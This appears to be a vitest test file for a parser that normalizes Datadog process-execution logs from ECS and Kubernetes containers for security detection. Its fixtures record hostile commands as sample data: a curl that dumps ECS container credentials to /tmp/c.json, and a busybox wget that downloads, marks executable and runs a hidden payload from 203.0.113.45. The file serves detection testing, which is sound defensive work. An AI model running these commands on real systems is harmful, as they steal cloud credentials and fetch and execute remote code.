import { describe, expect, it } from "vitest";
import type { ExecEvent } from "../../src/model.js";
import { datadog } from "../../src/sources/datadog.js";
import { context, ECS_GROUP, itNormalizesFixtures, loadFixture } from "./fixtures.js";

const ctx = context({ logGroup: ECS_GROUP, logStream: "datadog-agent/system-probe/5dfb0311" });
const source = {
  format: "datadog",
  logGroup: ECS_GROUP,
  logStream: "datadog-agent/system-probe/5dfb0311",
  eventId: ctx.eventId,
  owner: "123456789012",
} as const;

const WORDPRESS = {
  id: "dd7a1f0e6c5b4a39281706f5e4d3c2b1a0f9e8d7c6b5a4938271605f4e3d2c1b",
  name: "wordpress",
  image: "docker.io/library/wordpress:6.7-fpm-alpine",
};
const BLOG = {
  platform: "kubernetes",
  cluster: "prod-eks",
  namespace: "blog",
  pod: "wordpress-8f7d6c5b4-h2k9p",
} as const;

const expected: Record<string, ExecEvent[]> = {
  "datadog-curl-ecs-credentials": [
    {
      process: {
        name: "curl",
        path: "/usr/bin/curl",
        args: ["-s", "http://169.254.170.2/v2/credentials/2b4a6c1e-94f3-4bd7-8e51-0c7a9f3d2e11"],
        pid: 2293,
        user: "app",
      },
      // Datadog repeats the parent as ancestors[0]; it appears once.
      ancestors: [
        {
          name: "dash",
          path: "/bin/dash",
          args: ["-c", "curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI > /tmp/c.json"],
        },
        {
          name: "python3.12",
          path: "/usr/local/bin/python3.12",
          args: ["/usr/local/bin/gunicorn", "orders.wsgi", "--workers", "4", "--bind", "0.0.0.0:8000"],
        },
        {
          name: "tini",
          path: "/usr/bin/tini",
          args: ["--", "/usr/local/bin/gunicorn", "orders.wsgi", "--workers", "4", "--bind", "0.0.0.0:8000"],
        },
      ],
      container: {
        id: "976f2752ecfdc083a35713e8599a9dea8f09fea2d2cba5645935e561d2598df6",
        name: "orders-api",
        image: "123456789012.dkr.ecr.us-east-1.amazonaws.com/orders-api:3.4.1",
      },
      workload: {
        platform: "ecs",
        cluster: "prod-api",
        task: "arn:aws:ecs:us-east-1:123456789012:task/prod-api/976f2752ecfd4c08a35713e8599a9dea",
      },
      inContainer: true,
      viaExecSession: false,
      time: "2026-03-18T07:41:19.228Z",
      source,
    },
  ],
  "datadog-busybox-wget": [
    {
      process: {
        name: "wget",
        path: "/bin/busybox",
        args: ["-q", "-O", "/dev/shm/.k", "http://203.0.113.45/k"],
        pid: 30514,
        user: "root",
      },
      ancestors: [
        {
          name: "sh",
          path: "/bin/busybox",
          args: ["-c", "cd /dev/shm && wget -q -O /dev/shm/.k http://203.0.113.45/k && chmod +x .k && ./.k"],
        },
        { name: "php-fpm83", path: "/usr/sbin/php-fpm83", args: [] },
      ],
      container: WORDPRESS,
      workload: BLOG,
      inContainer: true,
      viaExecSession: false,
      time: "2026-03-19T16:20:41.009Z",
      source,
    },
  ],
  "datadog-benign-php": [
    {
      process: {
        name: "php83",
        path: "/usr/bin/php83",
        args: ["/var/www/html/wp-cron.php"],
        pid: 30701,
        user: "www-data",
        // Alpine's php is a link to php83: the kernel calls the process php.
        comm: "php",
      },
      ancestors: [{ name: "php-fpm83", path: "/usr/sbin/php-fpm83", args: [] }],
      container: WORDPRESS,
      workload: BLOG,
      inContainer: true,
      viaExecSession: false,
      time: "2026-03-19T16:25:00.114Z",
      source,
    },
  ],
  "datadog-exit": [],
};

type Proc = Record<string, unknown>;

describe("datadog parser", () => {
  itNormalizesFixtures(datadog, ctx, expected);

  it("recognizes a process known only by comm", () => {
    // Prepare: no `executable` anywhere in the event.
    const message = JSON.stringify({
      date: "2026-03-19T16:20:41.009Z",
      process: { comm: "wget", args: ["-qO-", "http://203.0.113.45/k"], container: { id: "dd7a1f0e6c5b" } },
    });
    // Act
    const [event] = datadog.parse(message, ctx) ?? [];
    // Assess
    expect(datadog.sniff(message)).toBe(true);
    expect(event?.process).toEqual({ name: "wget", args: ["-qO-", "http://203.0.113.45/k"] });
    expect(event?.inContainer).toBe(true);
  });

  it("prefers the executable path over the 15-character comm", () => {
    const fixture = loadFixture("datadog-benign-php");
    const proc = fixture.process as Proc;
    proc.comm = "kube-state-metr";
    proc.executable = { path: "/kube-state-metrics", name: "kube-state-metrics" };
    expect(datadog.parse(JSON.stringify(fixture), ctx)?.[0]?.process.name).toBe("kube-state-metrics");
    proc.executable = { name: "kube-state-metrics" };
    expect(datadog.parse(JSON.stringify(fixture), ctx)?.[0]?.process).toMatchObject({
      name: "kube-state-metrics",
    });
    delete proc.executable;
    expect(datadog.parse(JSON.stringify(fixture), ctx)?.[0]?.process.name).toBe("kube-state-metr");
  });

  it.each([
    ["args as a string", { args: "-s 'http://x/a b'" }, ["-s", "http://x/a b"]],
    ["argv with argv0 first", { args: undefined, argv: ["curl", "-s", "http://x"] }, ["-s", "http://x"]],
    [
      "argv with the path first",
      { args: undefined, argv0: undefined, argv: ["/usr/bin/curl", "-I", "x"] },
      ["-I", "x"],
    ],
    [
      "argv without argv0",
      { args: undefined, argv0: undefined, comm: "x", argv: ["-s", "http://x"] },
      ["-s", "http://x"],
    ],
    ["no arguments at all", { args: undefined }, []],
    ["args with non-strings", { args: ["-s", 7, null, "http://x"] }, ["-s", "http://x"]],
  ])("reads %s", (_label, patch, args) => {
    // Prepare
    const fixture = loadFixture("datadog-curl-ecs-credentials");
    const proc = fixture.process as Proc;
    for (const [key, value] of Object.entries(patch)) {
      if (value === undefined) delete proc[key];
      else proc[key] = value;
    }

    // Act
    const [event] = datadog.parse(JSON.stringify(fixture), ctx) ?? [];

    // Assess
    expect(event?.process.args).toEqual(args);
  });

  it("reads tags given as a ddtags string and top-level attributes", () => {
    // Prepare
    const fixture = loadFixture("datadog-benign-php");
    delete fixture.tags;
    fixture.ddtags = "kube_namespace:blog,pod_name:wordpress-8f7d6c5b4-h2k9p,kube_cluster_name:prod-eks";
    fixture.kube_namespace = "blog-staging";

    // Act
    const [event] =
      datadog.parse(JSON.stringify(fixture), context({ logGroup: "/aws/eks/prod-eks/cluster" })) ?? [];

    // Assess
    expect(event?.workload).toEqual({
      platform: "eks",
      cluster: "prod-eks",
      namespace: "blog-staging",
      pod: "wordpress-8f7d6c5b4-h2k9p",
    });
  });

  it("says unknown without any container context, and docker with only a container id", () => {
    const fixture = loadFixture("datadog-benign-php");
    delete fixture.tags;
    delete fixture.container;
    const proc = fixture.process as Proc;
    delete proc.container;
    const [host] = datadog.parse(JSON.stringify(fixture), ctx) ?? [];
    expect(host?.inContainer).toBe("unknown");
    expect(host?.workload).toEqual({ platform: "unknown" });

    fixture.container = { id: "docker://976f2752ecfdc083a35713e8599a9dea8f09fea2d2cba5645935e561d2598df6" };
    const [docker] = datadog.parse(JSON.stringify(fixture), ctx) ?? [];
    expect(docker?.inContainer).toBe(true);
    expect(docker?.container.id).toBe("976f2752ecfdc083a35713e8599a9dea8f09fea2d2cba5645935e561d2598df6");
    expect(docker?.workload).toEqual({ platform: "docker" });

    fixture.in_container = false;
    expect(datadog.parse(JSON.stringify(fixture), ctx)?.[0]?.inContainer).toBe(false);
  });

  it("reads events nested under `attributes` as the Logs API returns them", () => {
    const wrapped = { id: "AQAAAZXkZ", type: "log", attributes: loadFixture("datadog-busybox-wget") };
    expect(datadog.parse(JSON.stringify(wrapped), ctx)?.[0]?.process.name).toBe("wget");
  });

  it.each([
    ["plain text", "executable process started"],
    ["broken JSON", '{"process": {"executable": {"path": "/usr/bin/curl"}'],
    ["no process", '{"executable": "/usr/bin/curl", "process": 3}'],
    ["a process without any name", '{"process": {"executable": {"inode": 4}, "pid": 3}}'],
  ])("returns null for %s", (_label, message) => {
    expect(datadog.parse(message, ctx)).toBeNull();
  });
});

describe("datadog kubectl exec sessions", () => {
  const session = {
    id: "8f3d2c1b",
    session_type: "k8s",
    k8s_username: "arn:aws:sts::123456789012:assumed-role/eks-developer/mallory",
    k8s_uid: "aws-iam-authenticator:123456789012:AROAEXAMPLEROLEID1234",
    k8s_groups: ["system:authenticated"],
  };

  it("marks a process of a k8s user session as an exec session by that user", () => {
    const fixture = loadFixture("datadog-busybox-wget");
    (fixture.process as Record<string, unknown>).user_session = session;
    const [event] = datadog.parse(JSON.stringify(fixture), ctx) ?? [];
    expect(event?.viaExecSession).toBe(true);
    expect(event?.actor).toEqual({ user: session.k8s_username });
    expect(event?.sessionKey).toBeUndefined();
  });

  it("finds the session on an ancestor, falls back to k8s_uid, and ignores sessions without k8s identity", () => {
    const fixture = loadFixture("datadog-busybox-wget");
    const proc = fixture.process as Record<string, unknown>;
    proc.parent = { ...(proc.parent as object), user_session: { id: "1", k8s_uid: "uid-7" } };
    expect(datadog.parse(JSON.stringify(fixture), ctx)?.[0]?.actor).toEqual({ user: "uid-7" });
    proc.parent = { ...(proc.parent as object), user_session: { id: "1", session_type: "ssh" } };
    const [event] = datadog.parse(JSON.stringify(fixture), ctx) ?? [];
    expect(event?.viaExecSession).toBe(false);
    expect(event?.actor).toBeUndefined();
  });
});
